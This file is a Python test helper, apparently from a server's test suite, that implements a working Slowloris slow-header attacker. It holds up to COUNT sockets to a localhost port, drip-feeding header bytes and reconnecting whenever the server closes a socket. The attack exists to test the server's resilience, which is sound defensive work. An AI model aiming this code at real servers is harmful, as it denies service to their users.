"""A slow-header attacker, run as its own process: `python -m tests.support.slowloris PORT
COUNT SOURCE`.

It keeps COUNT sockets open to 127.0.0.1:PORT (from the local address SOURCE), each sending
half a request head and then one more header byte every half second, and opens a socket
again as soon as the server closes it, so the attack keeps running. It prints `ready` once
every socket has connected once, and on stdin EOF stops and prints its counts as JSON.

A separate process, like a real attacker: in the test's own event loop its 1,100 sockets
would also delay the legitimate client it is meant to compete with.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import sys
from dataclasses import asdict, dataclass, field

HEAD = b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


@dataclass
class Counts:
    opened: int = 0
    closed_by_server: int = 0
    connect_failures: int = 0


@dataclass
class SlowLoris:
    port: int
    count: int
    source: str
    counts: Counts = field(default_factory=Counts)
    stop: asyncio.Event = field(default_factory=asyncio.Event)

    async def run(self) -> None:
        await asyncio.gather(*(self._socket() for _ in range(self.count)))

    async def _socket(self) -> None:
        while not self.stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", self.port, local_addr=(self.source, 0)
                )
            except OSError:
                self.counts.connect_failures += 1
                await asyncio.sleep(0.05)
                continue
            self.counts.opened += 1
            writer.write(HEAD)
            while not self.stop.is_set() and not await self._closed(reader):
                with contextlib.suppress(ConnectionError):
                    writer.write(b"a")
            writer.close()

    async def _closed(self, reader: asyncio.StreamReader) -> bool:
        """Wait up to 0.5 s for the server to close (EOF or reset) the socket."""
        try:
            async with asyncio.timeout(0.5):
                closed = not await reader.read(4096)
        except TimeoutError:
            return False
        except ConnectionError:
            closed = True
        self.counts.closed_by_server += closed
        return closed


async def main(port: int, count: int, source: str) -> None:
    attack = SlowLoris(port, count, source)
    runner = asyncio.create_task(attack.run())
    while attack.counts.opened < count:
        await asyncio.sleep(0.05)
    print("ready", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    attack.stop.set()
    await runner
    print(json.dumps(asdict(attack.counts)), flush=True)


if __name__ == "__main__":
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]))
